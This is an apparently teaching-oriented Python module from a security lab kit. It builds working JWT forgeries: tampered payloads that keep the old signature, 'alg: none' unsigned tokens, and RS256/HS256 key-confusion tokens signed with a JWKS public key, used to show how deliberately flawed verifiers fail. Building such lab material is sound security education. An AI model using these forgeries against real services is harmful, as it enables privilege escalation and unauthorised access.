"""Breaking tokens: the forgeries the security lessons throw at verifiers.

None of these fool :class:`labkit.cognito.jwt.CognitoVerifier`; each fools the deliberately
vulnerable variant of :mod:`labkit.course.api` built to show that mistake.

* :func:`tamper` edits the payload and keeps the old signature (fools ``skip_signature``).
* :func:`forge_alg_none` drops the signature (``alg: none``; fools ``accept_alg_none``).
* :func:`forge_hs256` signs with HMAC under the pool's *public* key (fools ``trust_header_alg``).
* :func:`public_key_pem` turns a JWKS key into that PEM, as an attacker would.
"""
from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

import jwt
from jwt.utils import base64url_encode

from ..cognito.jwt import ALGORITHM

__all__ = ["tamper", "forge_alg_none", "forge_hs256", "public_key_pem", "hs256_signature", "pem_of"]


def _b64json(obj: dict) -> str:
    return base64url_encode(json.dumps(obj, separators=(",", ":")).encode()).decode()


def _changed_claims(token: str, claims: dict | None, changes: dict) -> dict:
    payload = jwt.decode(token, options={"verify_signature": False})
    payload.update(claims or {})
    payload.update(changes)
    return payload


def tamper(token: str, claims: dict | None = None, **changes: Any) -> str:
    """The same token with its payload edited, header and signature kept.

    ``tamper(t, {"cognito:groups": ["admin"]})`` or ``tamper(t, username="mallory")``. The old
    signature no longer matches: only a verifier that skips the signature accepts it.
    """
    header_b64, _, signature_b64 = token.split(".")
    return f"{header_b64}.{_b64json(_changed_claims(token, claims, changes))}.{signature_b64}"


def forge_alg_none(token: str, claims: dict | None = None, **changes: Any) -> str:
    """An unsigned copy (``alg: none``, empty signature) with the claims edited as you like."""
    header = jwt.get_unverified_header(token)
    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
    return jwt.encode(_changed_claims(token, claims, changes), None, algorithm="none", headers=extra)


def forge_hs256(token: str, secret: bytes | str, claims: dict | None = None, **changes: Any) -> str:
    """A copy signed with HMAC-SHA256 under ``secret``: the RS256/HS256 key-confusion forgery.

    Pass the pool's *public* key as PEM (:func:`public_key_pem`): a verifier that takes ``alg``
    from the header and hands "the key" to HMAC accepts it. Built by hand because PyJWT rightly
    refuses a PEM public key as an HMAC secret.
    """
    header = dict(jwt.get_unverified_header(token), alg="HS256")
    signing_input = f"{_b64json(header)}.{_b64json(_changed_claims(token, claims, changes))}"
    signature = hs256_signature(signing_input, secret.encode() if isinstance(secret, str) else secret)
    return f"{signing_input}.{base64url_encode(signature).decode()}"


def hs256_signature(signing_input: str, secret: bytes) -> bytes:
    """HMAC-SHA256 of ``header.payload`` under ``secret``: what an HS256 signature is."""
    return hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()


def public_key_pem(jwks: dict, kid: str | None = None) -> bytes:
    """The PEM (SubjectPublicKeyInfo) of a JWKS key: by ``kid``, or the first key.

    Public keys are public: this is exactly what an attacker can compute from the JWKS URL.
    """
    keys = jwks.get("keys", [])
    chosen = next((k for k in keys if kid is None or k.get("kid") == kid), None)
    if chosen is None:
        raise KeyError(f"no key with kid {kid!r} in the JWKS")
    return pem_of(jwt.PyJWK(chosen, algorithm=chosen.get("alg", ALGORITHM)).key)


def pem_of(public_key) -> bytes:
    """An RSA public key as PEM text (SubjectPublicKeyInfo), the bytes a naive HS256 check uses as secret."""
    from cryptography.hazmat.primitives import serialization

    return public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)

